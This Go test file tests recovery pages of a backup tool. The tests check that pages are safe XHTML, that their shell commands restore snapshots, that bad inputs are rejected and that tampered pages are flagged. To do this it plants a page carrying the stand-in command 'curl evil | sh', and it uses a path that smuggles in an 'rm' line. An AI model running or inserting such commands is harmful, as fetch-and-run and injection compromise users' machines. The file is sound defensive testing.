package backup_test

import (
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"strongroom/backup"
	"strongroom/backup/dirstore"
	"strongroom/quorum/sshsig"
	"strongroom/quorum/text"
)

// recovery describes a snapshot in one folder.
func recovery(s backup.Signed, folder string) backup.Recovery {
	return backup.Recovery{Signed: s, Reader: "1.1", Version: 3, Policy: text.Identity([]byte("policy")), Genesis: text.Identity([]byte("strongroom/policy@v1\n")),
		Stores: []backup.RecoveryStore{
			{ID: "dublin", Endpoint: "s3.example.com:443", Region: "eu-west-1", Bucket: "acme-backup-1"},
			{ID: "frankfurt", Folder: folder, Place: backup.StorePlace{Location: backup.Location{Lat: 501109, Lon: 86821}, Provider: "hetzner", Jurisdiction: "DE", Account: "acct-1"}},
		},
		People: []backup.RecoveryPerson{{ID: "alice", Name: "Alice <A>", Office: "acme & co"}, {ID: "bob", Name: "Bob"}}}
}

// commandsOf takes the commands out of a page, by their ids, and fails unless
// the page is well-formed XML without anything that loads or runs.
func commandsOf(t *testing.T, page []byte) map[string]string {
	t.Helper()
	out := map[string]string{}
	d := xml.NewDecoder(bytes.NewReader(page))
	id := ""
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("want well-formed XHTML, found %v", err)
		}
		switch x := token.(type) {
		case xml.StartElement:
			if slices.Contains([]string{"script", "a", "img", "link", "iframe", "object", "form"}, x.Name.Local) {
				t.Errorf("want nothing that loads, runs or leads away, found <%s>", x.Name.Local)
			}
			if x.Name.Local == "pre" {
				id = x.Attr[0].Value
			}
		case xml.CharData:
			if id != "" {
				out[id] += string(x)
			}
		case xml.EndElement:
			if x.Name.Local == "pre" {
				id = ""
			}
		}
	}
	return out
}

// follow runs blocks of commands as somebody would who copies them, one after
// the other into one shell, in an empty folder that holds the keys.
func follow(t *testing.T, empty string, blocks ...string) {
	t.Helper()
	cmd := exec.Command("sh", "-e", "-c", strings.Join(blocks, "\n"))
	cmd.Dir = empty
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("want the page's commands to restore, found %v\n%s", err, b)
	}
}

// sameTree wants every file and link of one folder in another.
func sameTree(t *testing.T, want, got string) {
	t.Helper()
	n := 0
	err := filepath.WalkDir(want, func(path string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		rel, err := filepath.Rel(want, path)
		if err != nil {
			return err
		}
		a, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		b, err := os.ReadFile(filepath.Join(got, rel))
		if err == nil && !bytes.Equal(a, b) {
			err = errors.New(rel + ": want the same bytes, found others")
		}
		n++
		return err
	})
	if err != nil || n < 3 {
		t.Errorf("want at least 3 files byte for byte, compared %d: %v", n, err)
	}
}

// What a page tells people to type, typed: nothing else, in an empty folder.
func TestThePagesCommandsRestoreEverySnapshot(t *testing.T) {
	for _, tool := range []string{"sh", "age", "zstd", "tar", "sha256sum", "ssh-keygen"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed: the commands of a recovery page were not run", tool)
		}
	}
	one := backup.Layers{{recipient(t, "alice", 1), recipient(t, "carol", 3)}}
	two := backup.Layers{{recipient(t, "alice", 1)}, {recipient(t, "bob", 2), recipient(t, "carol", 3)}}
	for name, c := range map[string]struct {
		layers backup.Layers
		again  bool
		keys   map[string]byte
		steps  []string
	}{
		"one layer":                 {one, false, map[string]byte{"officer.key": 3}, []string{"open"}},
		"two layers":                {two, false, map[string]byte{"outer.key": 1, "inner.key": 2}, []string{"open"}},
		"two rooms":                 {two, false, map[string]byte{"outer.key": 1, "inner.key": 3}, []string{"outer", "inner"}},
		"incremental":               {one, true, map[string]byte{"officer.key": 1}, []string{"open"}},
		"incremental in two layers": {two, true, map[string]byte{"outer.key": 1, "inner.key": 2}, []string{"open"}},
	} {
		t.Run(name, func(t *testing.T) {
			src, p, folder := bigFolder(t), newPlan(t).WithBounds(16<<20, 100, 4), newDir(t) // two files alone, a pack, the rest
			if err := os.WriteFile(filepath.Join(src, "policy-1.txt"), []byte("strongroom/policy@v1\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(src, "log/stays"), make([]byte, 1000), 0o600); err != nil {
				t.Fatal(err)
			}
			time.Sleep(settled)
			p.Layers, p.Now = c.layers, time.Now
			store := dirstore.Open(folder)
			taken := mustTake(t, os.DirFS(src), p)
			if c.again {
				mustShip(t, shipment(p, taken.Signed, backup.V1), targets(store))
				p.Last, p.Index = taken.Signed.Manifest(), taken.Index
				if err := os.WriteFile(filepath.Join(src, "log/small"), []byte("changed"), 0o600); err != nil {
					t.Fatal(err)
				}
				if taken = mustTake(t, os.DirFS(src), p); taken.Reused != 3 {
					t.Fatalf("want 3 segments again, found %d", taken.Reused)
				}
			}
			kit, err := backup.SignKit(recovery(taken.Signed, folder.Path()), p.Signer)
			if err != nil {
				t.Fatal(err)
			}
			s := shipment(p, taken.Signed, backup.V1)
			s.Kit = kit
			mustShip(t, s, targets(store))

			page, err := os.ReadFile(filepath.Join(folder.Path(), kit.Name()))
			if err != nil {
				t.Fatal(err)
			}
			do, empty := commandsOf(t, page), t.TempDir()
			for key, label := range c.keys {
				privateKey(t, filepath.Join(empty, key), label)
			}
			blocks := []string{do["begin"], "mv ../*.key .", do["fetch-frankfurt"], do["check"], do["signature"]}
			for _, step := range c.steps {
				blocks = append(blocks, do[step])
			}
			follow(t, empty, append(blocks, do["compare"], do["genesis"])...)
			restored := filepath.Join(empty, "recover-1", "restored")
			if c.again {
				restored = filepath.Join(empty, "recover-2", "restored")
			}
			sameTree(t, src, restored)

			// The page's own signature, under the name that it has in the store.
			base := strings.TrimSuffix(kit.Name(), ".html")
			follow(t, folder.Path(), strings.ReplaceAll(do["page"], "FILE", base))
		})
	}
}

func TestTheSameValuesAreTheSamePage(t *testing.T) {
	p := newPlan(t)
	taken := mustTake(t, source, p)
	a, err := recovery(taken.Signed, "/mnt/it's").Page()
	if err != nil {
		t.Fatal(err)
	}
	b, err := recovery(taken.Signed, "/mnt/it's").Page()
	if err != nil || !bytes.Equal(a, b) {
		t.Errorf("want the same bytes, found others, %v", err)
	}
	do := commandsOf(t, a)
	for id, want := range map[string]string{
		"fetch-dublin":    `'https://acme-backup-1.s3.example.com/'"$file"`,
		"fetch-frankfurt": `cp '/mnt/it'\''s'/"$file" .`,
	} {
		if !strings.Contains(do[id], want) {
			t.Errorf("%s: want %s, found %s", id, want, do[id])
		}
	}
	for _, want := range []string{"Alice &lt;A&gt;, acme &amp; co", "SHA256:", p.Signer.Key().Fingerprint(), taken.Signed.TextName(), "TEST: regtest", "age (1.1 or later)"} {
		if !bytes.Contains(a, []byte(want)) {
			t.Errorf("want %q in the page, found it not", want)
		}
	}
	if bytes.Contains(a, []byte("<A>")) || bytes.Count(a, []byte("http://")) != bytes.Count(a, []byte(` xmlns="http://`)) {
		t.Error("want names escaped and no address but the store's, found another")
	}
}

func TestAPageIsRefused(t *testing.T) {
	p := newPlan(t)
	taken := mustTake(t, source, p)
	for _, c := range []struct {
		name   string
		change func(*backup.Recovery)
		want   string
	}{
		{"unsigned", func(r *backup.Recovery) { r.Signed = backup.Signed{} }, "recovery page: want a signed manifest, found none"},
		{"no reader", func(r *backup.Recovery) { r.Reader = "" }, "recovery page: want the oldest age that opens it, found none"},
		{"nowhere", func(r *backup.Recovery) { r.Stores = nil }, "recovery page: want 1 to 32 stores, found 0"},
		{"unsorted", func(r *backup.Recovery) { r.Stores[0].ID = "zurich" }, "recovery page: want stores sorted, each once, found frankfurt behind zurich"},
		{"no id", func(r *backup.Recovery) { r.Stores[0].ID = "" }, `recovery page: store : want an id: a lower-case letter, then up to 31 letters, digits and single hyphens, found ""`},
		{"two places", func(r *backup.Recovery) { r.Stores[0].Folder = "/mnt" }, "recovery page: store dublin: want a folder, or endpoint, region and bucket, found neither or both"},
		{"a line in a path", func(r *backup.Recovery) { r.Stores[1].Folder = "/mnt\nrm" }, `recovery page: store frankfurt: want at most 4096 printable bytes, found "/mnt\nrm"`},
		{"a name that turns around", func(r *backup.Recovery) { r.People[0].Name = "a\u202eb" }, `recovery page: alice: want at most 256 printable bytes, found "a\u202eb"`},
	} {
		r := recovery(taken.Signed, "/mnt")
		c.change(&r)
		if _, err := r.Page(); err == nil || err.Error() != c.want {
			t.Errorf("%s: want %q, found %v", c.name, c.want, err)
		}
	}
	other := newSigner(t, 8)
	want := "recovery page: want it signed by the manifest's key " + p.Signer.Key().Fingerprint() + ", found " + other.Key().Fingerprint()
	if _, err := backup.SignKit(recovery(taken.Signed, "/mnt"), other); err == nil || err.Error() != want {
		t.Errorf("want %q, found %v", want, err)
	}
}

// withKit is a snapshot in a locking store, with its page.
func withKit(t *testing.T) (backup.Plan, backup.Signed, backup.Kit, *memory) {
	t.Helper()
	p, store := newPlan(t), newMemory()
	store.locks = true
	taken := mustTake(t, source, p)
	kit, err := backup.SignKit(recovery(taken.Signed, "/mnt"), p.Signer)
	if err != nil {
		t.Fatal(err)
	}
	s := shipment(p, taken.Signed, backup.V1)
	s.Kit = kit
	mustShip(t, s, targets(store))
	return p, taken.Signed, kit, store
}

// Somebody with the host's credentials plants a page that leads people astray.
func TestAPlantedPageIsNotFollowed(t *testing.T) {
	p, signed, kit, store := withKit(t)
	check := backup.Checking{Level: backup.V1, Now: p.Now}
	plant := func(name string, b []byte) {
		store.objects[name] = append(store.objects[name], &kept{b: b, c: backup.Whole(b)})
	}
	found := func() backup.Verification {
		t.Helper()
		v, err := backup.Verify(t.Context(), store, signed, check)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if v := found(); v.Kit != kit.Name() || len(v.Odd) != 0 {
		t.Fatalf("want the page %s, found %+v", kit.Name(), v)
	}
	evil := bytes.ReplaceAll(kit.Page(), []byte("sha256sum -c"), []byte("curl evil | sh"))
	name := strings.TrimSuffix(kit.Name(), text.Identity(kit.Page()).Short()+".html") + text.Identity(evil).Short() + ".html"
	plant(name, evil)
	if v := found(); v.Kit != kit.Name() || !slices.Equal(v.Odd, []string{name}) {
		t.Errorf("want the planted page told, found %+v", v)
	}
	sig, err := sshsig.Sign(newSigner(t, 8), sshsig.NamespaceFor("recover"), evil)
	if err != nil {
		t.Fatal(err)
	}
	plant(strings.TrimSuffix(name, ".html")+".backup-job.recover.sig", sig)
	if v := found(); !slices.Equal(v.Odd, []string{name}) {
		t.Errorf("want a page that a stranger signed told, found %+v", v)
	}
	// Written over the right one: the locked version below is what counts.
	plant(kit.Name(), evil)
	if v := found(); v.Kit != kit.Name() || !slices.Contains(v.Covered, kit.Name()) {
		t.Errorf("want the right page below the planted one, found %+v", v)
	}
	// A page of another snapshot, rightly signed, is none of this one.
	p.Last = signed.Manifest()
	second := mustTake(t, source, p).Signed
	s := shipment(p, second, backup.V1)
	s.Kit = kit
	if _, err := backup.Ship(t.Context(), s, targets(store)); err == nil || err.Error() != "ship: want the recovery page of this snapshot, found that of another" {
		t.Errorf("want another snapshot's page refused, found %v", err)
	}
	moved := "recover-000002-" + text.Identity(second.Bytes()).Short() + "-" + text.Identity(kit.Page()).Short()
	plant(moved+".html", kit.Page())
	plant(moved+".backup-job.recover.sig", store.only(kit.SignatureName()).b)
	mustShip(t, shipment(p, second, backup.V1), targets(store))
	v, err := backup.Verify(t.Context(), store, second, check)
	if err != nil || v.Kit != "" || !slices.Equal(v.Odd, []string{moved + ".html"}) {
		t.Errorf("want a page about another snapshot told, found %+v, %v", v, err)
	}
}

func TestAMissingPageIsToldAndMadeGood(t *testing.T) {
	p, signed, kit, store := withKit(t)
	sound, until := store.objects, start.AddDate(0, 0, 35)
	check := backup.Checking{Level: backup.V1, Now: p.Now, Locked: until}
	for _, gone := range []string{kit.Name(), kit.SignatureName()} {
		store.objects = map[string][]*kept{}
		for name, v := range sound {
			if name != gone {
				store.objects[name] = v
			}
		}
		v, err := backup.Verify(t.Context(), store, signed, check)
		if err != nil || v.Level != backup.V1 || v.Kit != "" {
			t.Errorf("without %s: want a good copy without a page, found %+v, %v", gone, v, err)
		}
		if _, _, err := backup.FindKit(t.Context(), store, signed); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("without %s: want none, found %v", gone, err)
		}
		made, err := backup.RepairKit(t.Context(), store, kit, until)
		if err != nil || !slices.Equal(made, []string{gone}) {
			t.Errorf("want %s made good, found %v, %v", gone, made, err)
		}
		if v, err := backup.Verify(t.Context(), store, signed, check); err != nil || v.Kit != kit.Name() {
			t.Errorf("want the page back, found %+v, %v", v, err)
		}
	}
	if made, err := backup.RepairKit(t.Context(), store, kit, until); err != nil || len(made) != 0 {
		t.Errorf("want nothing to do, found %v, %v", made, err)
	}
	long := until.AddDate(0, 0, 100)
	if _, err := backup.ExtendLocks(t.Context(), store, []backup.Signed{signed}, []backup.Signed{signed}, long); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{kit.Name(), kit.SignatureName()} {
		if got := untilOf(store, name); got != long {
			t.Errorf("%s: want it locked with its snapshot until %v, found %v", name, long, got)
		}
	}
	o, err := backup.Lapsed(t.Context(), store, nil, []backup.Signed{signed}, long.Add(time.Second))
	if err != nil || !slices.ContainsFunc(o, func(o backup.Object) bool { return o.Name == kit.Name() }) {
		t.Errorf("want a page let go with its snapshot, found %v, %v", o, err)
	}
}
